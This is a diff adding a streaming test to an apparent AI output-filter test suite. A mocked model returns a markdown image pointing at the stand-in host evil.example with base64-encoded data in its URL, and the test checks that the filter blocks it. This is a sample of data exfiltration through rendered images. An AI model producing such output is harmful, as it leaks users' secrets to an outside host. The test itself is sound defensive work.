@@ -403,6 +403,7 @@ describe('other checks: invisible Unicode, URLs, response formats, languages', (
     env = await start(
       { checks: { urls: { allow: ['acme.example'] }, responseFormat: 'refuse', languages: { allow: ['en'] } } },
       (last) => {
+        if (last.includes('stream an image')) return { content: `${'The quarterly chart follows below, as requested. '.repeat(4)}![chart](https://evil.example/p.png?d=SGVsbG8gc2VjcmV0) That is all.`, chunkChars: 7 };
         if (last.includes('image')) return 'Here: ![chart](https://evil.example/p.png?d=SGVsbG8gc2VjcmV0)';
         if (last.includes('docs link')) return 'See https://docs.acme.example/guide for the details.';
         if (last.includes('bad link')) return 'See https://evil.example/guide for the details.';
@@ -441,6 +442,12 @@ describe('other checks: invisible Unicode, URLs, response formats, languages', (
     const bad = await chat(env, user('give me a bad link'));
     expect(bad.headers.get('x-pillars-decision')).toBe('refuse');
     expect(bad.headers.get('x-pillars-flags')).toContain('url:evil.example');
+    // Streamed: the image is caught in the window that holds it; none of its URL leaves.
+    const streamed = await chat(env, user('stream an image'), {}, { stream: true });
+    const sse = readSse(streamed.text);
+    expect(sse.finish).toBe('content_filter');
+    expect(sse.content).not.toContain('SGVsbG8');
+    expect(sse.content).not.toContain('evil.example');
     const tool = await chat(env, user('fetch the page'), {}, { tools: [{ type: 'function', function: { name: 'fetch', parameters: { type: 'object' } } }] });
     expect(tool.headers.get('x-pillars-decision')).toBe('refuse');
     expect(tool.text).not.toContain('collect?x=1');
